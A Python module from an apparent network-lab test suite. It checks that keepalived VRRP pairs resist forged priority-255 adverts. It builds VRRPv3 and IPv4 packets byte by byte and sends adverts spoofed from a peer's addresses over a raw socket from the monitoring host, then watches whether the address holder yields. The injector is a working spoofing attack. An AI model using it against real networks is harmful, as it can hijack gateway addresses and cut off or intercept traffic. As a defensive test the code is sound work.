"""The pairs' elections, attacked from a host the clients can reach: forged adverts move nothing.

VRRPv3 has no authentication: whoever can deliver an advert to a pair's
members with a priority above the holder's (255, "I own the addresses")
makes the holder give the floating addresses up, and the service with
them. The members defend the election by where adverts may come from: their
own link, unicast from the other member, filtered by interface and peer
(deploy/render.py: keepalived_conf, _pair_rules). This check attacks that
from the monitoring host (nagios: on LAN2 with both pairs, its web interface
open to the clients, so a foothold away): for ~1.5 s it sends adverts for
the pair's VRID and addresses with priority 255, spoofed from the holder's
peer (its link address, the strongest cheap forgery, and its address on the
shared network) and from its own address, to the VRRP group and to every
member. The same member must hold every address throughout and after, and
no member's VRRP state may change, even for a moment.

The packets are built here, in plain Python (pure functions, unit-tested
bit by bit), and sent from inside the attacking host by Debian's python3
with a raw socket that writes its own IPv4 header, so the source can be
anyone's.
"""

import json
import re
import threading
import time
from ipaddress import IPv4Address

VRRP_PROTOCOL = 112
VRRP_GROUP = "224.0.0.18"       # where VRRP adverts go unless sent unicast (RFC 5798)
VRRP_VERSION = 3
VRRP_ADVERTISEMENT = 1          # the only VRRP packet type
FORGED_PRIORITY = 255           # the addresses' owner: every backup and master yields to it
INJECT_SECONDS = 1.5            # longer than a backup waits for a silent master (about 0.7 s)
INJECT_INTERVAL = 0.1           # twice as often as the real master advertises
SETTLE = 1.0                    # after the last forged advert: a lost master would be replaced by now
POLL = 0.1

# Runs in the attacking host with Debian's python3; the packets (whole IPv4
# datagrams, header included, hex) come as JSON in argv. IPPROTO_RAW sends
# only, so the socket does not fill with every VRRP packet around, and its
# header is ours (IP_HDRINCL): the source address is whatever we wrote.
# Bound to the device, the group address needs no route.
INJECTOR = r"""
import json, socket, sys, time
spec = json.loads(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, spec["device"].encode())
packets = [(bytes.fromhex(p), d) for p, d in spec["packets"]]
sent, errors = 0, {}
end = time.monotonic() + spec["seconds"]
while time.monotonic() < end:
    for data, destination in packets:
        try:
            s.sendto(data, (destination, 0))
            sent += 1
        except OSError as exc:
            errors[exc.strerror] = errors.get(exc.strerror, 0) + 1
    time.sleep(spec["interval"])
print(json.dumps({"sent": sent, "errors": errors}))
"""


# -- the packets (pure) ------------------------------------------------------------------


def internet_checksum(data: bytes) -> int:
    """RFC 1071: the ones' complement of the ones' complement sum of 16-bit words."""
    if len(data) % 2:
        data += b"\0"
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def vrrp_advert(vrid, priority, addresses, source, destination, interval_cs=20) -> bytes:
    """A VRRPv3 advertisement (RFC 5798 section 5.1) for IPv4, checksum included.

    Version 3 and type 1 share the first byte; the maximum advertisement
    interval is 12 bits of centiseconds after 4 reserved bits; the checksum
    covers the message and an IPv4 pseudo-header (source, destination, zero,
    protocol 112, the message's length: section 5.2.8), so it depends on the
    addresses the datagram carries.
    """
    if not 1 <= vrid <= 255 or not 0 <= priority <= 255:
        raise ValueError(f"VRID {vrid} or priority {priority} out of range")
    if not 0 <= interval_cs < 1 << 12:
        raise ValueError(f"advert interval {interval_cs} cs does not fit 12 bits")
    if not 1 <= len(addresses) <= 255:
        raise ValueError("an advert carries 1 to 255 addresses")
    body = b"".join(IPv4Address(str(a).split("/")[0]).packed for a in addresses)
    header = bytes([(VRRP_VERSION << 4) | VRRP_ADVERTISEMENT, vrid, priority, len(addresses)]) \
        + interval_cs.to_bytes(2, "big")
    message = header + b"\0\0" + body
    pseudo = (IPv4Address(str(source)).packed + IPv4Address(str(destination)).packed
              + bytes([0, VRRP_PROTOCOL]) + len(message).to_bytes(2, "big"))
    checksum = internet_checksum(pseudo + message)
    return header + checksum.to_bytes(2, "big") + body


def ipv4_packet(source, destination, payload, protocol=VRRP_PROTOCOL, ttl=255, tos=0xC0) -> bytes:
    """An IPv4 datagram around `payload`, header checksum included.

    TTL 255 and precedence "internetwork control" (TOS 0xc0), like a VRRP
    router's own adverts: a receiver that checks the TTL (RFC 5798 says it
    must) cannot tell the forgery by it.
    """
    length = 20 + len(payload)
    header = bytes([0x45, tos]) + length.to_bytes(2, "big") + b"\0\0" + b"\0\0" \
        + bytes([ttl, protocol])
    addresses = IPv4Address(str(source)).packed + IPv4Address(str(destination)).packed
    checksum = internet_checksum(header + b"\0\0" + addresses)
    return header + checksum.to_bytes(2, "big") + addresses + payload


def forged_adverts(pair, sources, destinations, priority=FORGED_PRIORITY, interval_cs=None):
    """[(datagram, destination)]: one advert for the pair's VRID and addresses per
    (source, destination), as its members would send them but with `priority`."""
    if interval_cs is None:
        from quizstack.deploy.render import VRRP_ADVERT

        interval_cs = round(VRRP_ADVERT * 100)
    addresses = [cidr for _, cidr in pair.addresses]
    return [(ipv4_packet(source, destination,
                         vrrp_advert(pair.vrid, priority, addresses, source, destination,
                                     interval_cs)), str(destination))
            for source in sources for destination in destinations]


def attacker(plan, topology, pair):
    """(host, its interface, network) to attack a pair from: the monitoring host
    (else ges, else any other host that is not a client) on a network of the
    pair's floating addresses, besides the members; None if there is none."""
    m = plan.management
    wanted = [m.nagios, m.ges] if m else []
    wanted += [h for h in topology.hosts if h not in plan.clients]
    networks = [network for network, _ in pair.addresses]
    for name in (h for h in wanted if h and h not in pair.hosts):
        host = topology.hosts[name]
        for network in networks:
            for iface in host.interfaces:
                if iface.network == network:
                    return name, iface, network
    return None


# -- sending and watching ----------------------------------------------------------------


def inject(run, host, device, packets, seconds=INJECT_SECONDS, interval=INJECT_INTERVAL):
    """Send `packets` from `host` out of `device` every `interval` for `seconds`:
    {"sent": N, "errors": {why: count}}. `run(host, argv, timeout)` runs a
    command inside a host (Checker._run) and returns a CompletedProcess."""
    spec = {"device": device, "seconds": seconds, "interval": interval,
            "packets": [(data.hex(), destination) for data, destination in packets]}
    try:
        done = run(host, ["python3", "-c", INJECTOR, json.dumps(spec)], seconds + 15)
    except Exception as exc:     # a host that does not answer in time: nothing was proved
        return {"sent": 0, "errors": {str(exc)[:120]: 1}}
    try:
        return json.loads(done.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        why = (done.stderr or done.stdout).strip().splitlines()[-1:] or ["no output"]
        return {"sent": 0, "errors": {why[0][:120]: 1}}


def _state_marks(run, pair):
    """Each member's VRRP state file, with its modification time: keepalived's notify
    rewrites it at every change, so a change and back again still shows."""
    from quizstack.deploy.render import VRRP_STATE

    path = VRRP_STATE.format(name=pair.name)
    marks = {}
    for host in pair.hosts:
        try:
            done = run(host, ["sh", "-c", f"stat -c %y {path}; cat {path}"], 10)
            marks[host] = done.stdout.strip()
        except Exception:
            marks[host] = "?"
    return marks


def vrrp_drops(run, host):
    """Packets the pair's filter on a balancer dropped (its VRRP drop counter), or None."""
    from quizstack.deploy.render import PAIR_TABLE

    try:
        done = run(host, ["nft", "list", "table", "inet", PAIR_TABLE], 10)
    except Exception:
        return None
    found = re.search(r"ip protocol vrrp counter packets (\d+)", done.stdout)
    return int(found.group(1)) if found else None


def watch(lab, pair, running, until, interval=POLL):
    """Samples of the pair until the event `until` is set: [(seconds, {member: (state, holds)})]."""
    from quizstack.stack import pair_status

    started, samples = time.monotonic(), []
    while True:
        status = pair_status(lab, pair, running)
        samples.append((round(time.monotonic() - started, 2),
                        {h: (m["state"], m["holds"]) for h, m in status["members"].items()}))
        if until.is_set():
            return samples
        until.wait(interval)


def attack(checker, pair, host, device, packets, seconds=INJECT_SECONDS):
    """Send the packets from `host` while watching the pair, and once more SETTLE
    seconds after the last: (what was sent, the samples)."""
    running = set(checker.lab.topology.hosts)
    done = threading.Event()
    sent = {}

    def send():
        try:
            sent.update(inject(checker._run, host, device, packets, seconds))
        finally:
            done.set()

    sender = threading.Thread(target=send, daemon=True)
    sender.start()
    samples = watch(checker.lab, pair, running, done)
    sender.join()
    time.sleep(SETTLE)
    offset = samples[-1][0] + SETTLE
    stop = threading.Event()
    stop.set()
    samples += [(round(t + offset, 2), members)
                for t, members in watch(checker.lab, pair, running, stop)]
    return sent, samples


def _shown(members):
    return ", ".join(f"{h} {state}" + (f" holding {', '.join(holds)}" if holds else "")
                     for h, (state, holds) in members.items())


# -- the rows ----------------------------------------------------------------------------


def _guard(checker, pair):
    """The attack on one pair, judged on its holder.

    A priority 255 advert that gets through makes the holder yield: it
    leaves MASTER and drops the addresses. A backup that hears one only
    waits longer for a master, so a backup turning MASTER for a moment is
    not the attack's doing (on a starved machine keepalived's timers fire
    seconds late, and a backup takes over until it hears the master): it is
    shown, not held against the defence.
    """
    from quizstack.stack import pair_status

    topology = checker.lab.topology
    running = set(topology.hosts)
    found = attacker(checker.plan, topology, pair)
    name = (f"{pair.name}: forged VRRP adverts (priority {FORGED_PRIORITY}) from "
            f"{found[0] if found else 'a neighbour'} leave "
            f"{', '.join(cidr.split('/')[0] for _, cidr in pair.addresses)} where they are")
    if found is None:
        return checker.row(pair.role, name, False, "no host besides the members shares a "
                                                   "network with the floating addresses")
    host, iface, network = found
    before = pair_status(checker.lab, pair, running)
    holder, wanted = before["holder"], before["addresses"]
    if holder is None or before["members"][holder]["holds"] != wanted \
            or before["members"][holder]["state"] != "MASTER":
        return checker.row(pair.role, name, False, "no single MASTER holds every address before "
                                                   f"the attack: {before['members']}")
    sources = []
    for peer in pair.peers(holder):
        # The peer's link address (what the holder's keepalived listens for) and
        # its address on the attacker's network (what it listened for before).
        for spoofed in (pair.own[peer].get(pair.sync_network), pair.own[peer].get(network)):
            if spoofed is not None and str(spoofed) not in sources:
                sources.append(str(spoofed))
    sources.append(str(iface.address))
    destinations = [VRRP_GROUP] + [str(pair.own[h][network]) for h in pair.hosts]
    mark = _state_marks(checker._run, pair)[holder]
    dropped = vrrp_drops(checker._run, holder)
    sent, samples = attack(checker, pair, host, iface.name,
                           forged_adverts(pair, sources, destinations))
    # A member that did not answer in time reads "?": not a sample of its state.
    read = [(t, members) for t, members in samples if members[holder][0] != "?"]
    yielded = [(t, members) for t, members in read if members[holder] != ("MASTER", wanted)]
    flapped = [(t, members) for t, members in samples
               if any(m != holder and (state == "MASTER" or holds)
                      for m, (state, holds) in members.items())]
    # The notify script rewrites the state file at every change, even one and back.
    rewritten = _state_marks(checker._run, pair)[holder] != mark
    ok = sent.get("sent", 0) > 0 and not sent.get("errors") and read and not yielded \
        and not rewritten
    detail = (f"{sent.get('sent', 0)} adverts over {INJECT_SECONDS} s from {host} ({iface.name}, "
              f"{network}) spoofed from {', '.join(sources)} to {', '.join(destinations)}: ")
    if sent.get("errors"):
        detail += f"sending failed ({sent['errors']}); "
    if yielded:
        detail += "the holder yielded: " + "; ".join(f"{t} s: {_shown(m)}" for t, m in yielded[:3]) + "; "
    elif rewritten:
        detail += f"{holder}'s VRRP state changed and came back meanwhile; "
    elif not read:
        detail += f"{holder} did not answer while it was attacked; "
    else:
        detail += (f"{holder} stayed MASTER holding {', '.join(wanted)} in all {len(read)} samples"
                   + (f" it answered ({len(samples)} taken)" if len(read) < len(samples) else ""))
        now = vrrp_drops(checker._run, holder) if dropped is not None else None
        if now is not None:
            detail += f"; its filter dropped {now - dropped} VRRP packets"
        detail += "; "
    if flapped:
        t, members = flapped[0]
        detail += (f"meanwhile a backup went MASTER by itself ({t} s: {_shown(members)}; "
                   "a forged advert cannot do that) ")
    return checker.row(pair.role, name, ok, detail.rstrip("; "))


def pair_guard_checks(checker):
    """One row per pair: forged VRRP adverts from a host beside it move no address."""
    return [_guard(checker, pair) for pair in checker.plan.pairs]


__all__ = ["pair_guard_checks", "vrrp_advert", "ipv4_packet", "internet_checksum",
           "forged_adverts", "inject", "attack", "attacker", "vrrp_drops"]
